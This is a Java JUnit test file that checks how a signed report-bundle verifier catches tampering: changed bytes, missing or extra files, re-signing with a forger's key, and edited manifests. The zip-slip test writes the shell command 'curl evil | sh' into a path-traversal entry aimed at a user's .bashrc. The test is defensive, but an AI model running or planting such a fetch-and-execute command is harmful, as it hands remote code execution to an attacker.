package io.xskc.report.bundle;

import static io.xskc.report.bundle.Fixtures.bytes;
import static io.xskc.report.bundle.Fixtures.sha256;
import static io.xskc.report.bundle.Fixtures.text;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.Map;
import java.util.Optional;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Each tamper must fail verification with exactly the problem that describes it. */
class BundleTamperTest {

    @TempDir
    Path dir;

    private SigningKey key;
    private Path zip;

    @BeforeEach
    void writeBundle() throws IOException {
        key = Fixtures.newKey(dir.resolve("keys"));
        zip = dir.resolve("bundle.zip");
        BundleWriter.write(Fixtures.contents(dir), zip, key);
    }

    private VerificationReport verify(Path bundle) throws IOException {
        return BundleVerifier.verify(bundle, Optional.of(key.publicKey()));
    }

    @Test
    void oneChangedByteIsADigestMismatchOfThatFile() throws Exception {
        byte[] original = Fixtures.read(zip).get("summary.json");
        byte[] changed = original.clone();
        changed[40] ^= 0x01;
        Path bundle = Fixtures.tamper(zip, "changed", e -> e.put("summary.json", changed));

        VerificationReport report = verify(bundle);

        assertThat(report.problems()).containsExactly(new Problem.DigestMismatch("summary.json", sha256(original), sha256(changed)));
        assertThat(report.problems().getFirst().describe()).isEqualTo("summary.json: SHA-256 mismatch: manifest says "
                + sha256(original) + ", file has " + sha256(changed));
        assertThat(report.ok()).isFalse();
        assertThat(report.describe()).endsWith("FAILED: 1 problem; signer key " + key.fingerprint());
    }

    @Test
    void aDroppedFileIsMissing() throws Exception {
        Path bundle = Fixtures.tamper(zip, "dropped", e -> e.remove(Fixtures.ATTACHMENT));

        VerificationReport report = verify(bundle);

        assertThat(report.problems()).containsExactly(new Problem.MissingFile(Fixtures.ATTACHMENT));
        assertThat(report.problems().getFirst().describe())
                .isEqualTo(Fixtures.ATTACHMENT + ": listed in MANIFEST.sha256 but missing from the bundle");
    }

    @Test
    void anAddedFileIsUnlisted() throws Exception {
        Path bundle = Fixtures.tamper(zip, "added", e -> e.put("allure-results/extra-result.json", bytes("{}")));

        VerificationReport report = verify(bundle);

        assertThat(report.problems()).containsExactly(new Problem.UnlistedFile("allure-results/extra-result.json"));
        assertThat(report.problems().getFirst().describe())
                .isEqualTo("allure-results/extra-result.json: present in the bundle but not listed in MANIFEST.sha256");
    }

    @Test
    void aBundleResignedWithAnotherKeyIsTheWrongKey() throws Exception {
        SigningKey other = Fixtures.newKey(dir.resolve("other-keys"));
        Path bundle = Fixtures.tamper(zip, "resigned", e -> {
            e.put("summary.json", bytes(text(e.get("summary.json")).replace("WAIVED", "PASSED")));
            resign(e, other);
        });

        VerificationReport report = verify(bundle);

        assertThat(report.problems()).containsExactly(new Problem.WrongKey(key.fingerprint(), other.fingerprint()));
        assertThat(report.problems().getFirst().describe()).isEqualTo("signer.pub: bundle is signed by key "
                + other.fingerprint() + ", not by the trusted key " + key.fingerprint());
        // Without the trusted key the forgery is self-consistent: only the fingerprint gives it away.
        VerificationReport untrusted = BundleVerifier.verify(bundle, Optional.empty());
        assertThat(untrusted.ok()).isTrue();
        assertThat(untrusted.signer()).contains(other.fingerprint());
    }

    @Test
    void aManifestEditedToMatchAChangedFileFailsTheSignature() throws Exception {
        Path bundle = Fixtures.tamper(zip, "edited", e -> {
            byte[] summary = bytes(text(e.get("summary.json")).replace("\"WAIVED\"", "\"PASSED\""));
            String manifest = text(e.get("MANIFEST.sha256"));
            String line = manifest.lines().filter(l -> l.endsWith("  summary.json")).findFirst().orElseThrow();
            e.put("summary.json", summary);
            e.put("MANIFEST.sha256", bytes(manifest.replace(line, sha256(summary) + "  summary.json")));
        });

        VerificationReport report = verify(bundle);

        assertThat(report.problems()).containsExactly(new Problem.BadSignature("signature of MANIFEST.sha256 does not verify"
                + " with the trusted key " + key.fingerprint() + " (the manifest or the signature was changed after signing)"));
        assertThat(report.problems().getFirst().describe()).startsWith("MANIFEST.sig: signature of MANIFEST.sha256 does not verify");
    }

    @Test
    void aCorruptedSignatureFails() throws Exception {
        Path bundle = Fixtures.tamper(zip, "badsig", e -> {
            byte[] signature = Base64.getDecoder().decode(text(e.get("MANIFEST.sig")).strip());
            signature[10] ^= 0x40;
            e.put("MANIFEST.sig", bytes(Base64.getEncoder().encodeToString(signature) + "\n"));
        });

        assertThat(verify(bundle).problems()).singleElement().isInstanceOf(Problem.BadSignature.class)
                .extracting(Problem::describe).asString().contains("does not verify with the trusted key");
    }

    @Test
    void aSignatureThatIsNotBase64IsReportedAsSuch() throws Exception {
        Path bundle = Fixtures.tamper(zip, "notbase64", e -> e.put("MANIFEST.sig", bytes("not a signature!\n")));

        assertThat(verify(bundle).problems()).singleElement().isInstanceOf(Problem.BadSignature.class)
                .extracting(Problem::describe).asString().startsWith("MANIFEST.sig: not base64");
    }

    @Test
    void missingControlEntriesAreNamed() throws Exception {
        Path noSig = Fixtures.tamper(zip, "nosig", e -> e.remove("MANIFEST.sig"));
        Path noPub = Fixtures.tamper(zip, "nopub", e -> e.remove("signer.pub"));
        Path noManifest = Fixtures.tamper(zip, "nomanifest", e -> e.remove("MANIFEST.sha256"));

        assertThat(verify(noSig).problems()).containsExactly(new Problem.MissingEntry("MANIFEST.sig"));
        // signer.pub is itself listed, so its absence is also a missing file; the trusted key still checks the signature.
        assertThat(verify(noPub).problems()).containsExactly(new Problem.MissingEntry("signer.pub"),
                new Problem.MissingFile("signer.pub"));
        assertThat(verify(noManifest).problems()).containsExactly(new Problem.MissingEntry("MANIFEST.sha256"));
        assertThat(new Problem.MissingEntry("MANIFEST.sig").describe()).isEqualTo("MANIFEST.sig: missing from the bundle");
    }

    @Test
    void aMalformedManifestLineIsReportedWithItsNumber() throws Exception {
        Path bundle = Fixtures.tamper(zip, "malformed", e -> {
            String manifest = text(e.get("MANIFEST.sha256"));
            String second = manifest.lines().skip(1).findFirst().orElseThrow();
            e.put("MANIFEST.sha256", bytes(manifest.replace(second, second.replace("  ", " "))));
        });

        VerificationReport report = verify(bundle);

        assertThat(report.problems()).first().isInstanceOfSatisfying(Problem.MalformedManifest.class, m -> {
            assertThat(m.line()).isEqualTo(2);
            assertThat(m.describe()).startsWith("MANIFEST.sha256 line 2: expected '<64 lower-case hex digits>  <path>'");
        });
        // The unparseable line leaves its file unlisted, and the edit breaks the signature.
        assertThat(report.problems()).hasSize(3).extracting(p -> p.getClass().getSimpleName())
                .containsExactly("MalformedManifest", "UnlistedFile", "BadSignature");
    }

    @Test
    void anEntryThatWouldEscapeTheExtractionDirectoryIsUnsafe() throws Exception {
        Path bundle = Fixtures.tamper(zip, "zipslip", e -> e.put("../../home/reviewer/.bashrc", bytes("curl evil | sh\n")));

        assertThat(verify(bundle).problems()).containsExactly(
                new Problem.UnsafeEntry("../../home/reviewer/.bashrc", "'..' segment (path traversal)"));
    }

    @Test
    void aByteFlippedInTheZipFileItselfIsReportedForThatFile() throws Exception {
        byte[] raw = Files.readAllBytes(zip);
        int header = indexOf(raw, bytes("summary.json"));
        // Local header: the name starts at offset 30; compressed data follows the name (no extra field).
        raw[header + "summary.json".length() + 20] ^= 0x55;
        Path flipped = Files.write(dir.resolve("flipped.zip"), raw);

        assertThat(verify(flipped).problems()).singleElement()
                .satisfies(p -> assertThat(p.describe()).startsWith("summary.json: "));
    }

    private static int indexOf(byte[] haystack, byte[] needle) {
        outer:
        for (int i = 0; i <= haystack.length - needle.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (haystack[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new AssertionError("not found");
    }

    /** What a forger holding another key does: new signer.pub, new manifest, new signature. */
    private static void resign(Map<String, byte[]> entries, SigningKey other) {
        entries.put("signer.pub", other.publicKeyPem());
        StringBuilder manifest = new StringBuilder();
        entries.entrySet().stream().filter(x -> !x.getKey().startsWith("MANIFEST.")).map(Map.Entry::getKey).sorted()
                .forEach(name -> manifest.append(sha256(entries.get(name))).append("  ").append(name).append('\n'));
        byte[] bytes = manifest.toString().getBytes(StandardCharsets.UTF_8);
        entries.put("MANIFEST.sha256", bytes);
        entries.put("MANIFEST.sig", bytes(Base64.getEncoder().encodeToString(other.sign(bytes)) + "\n"));
    }
}
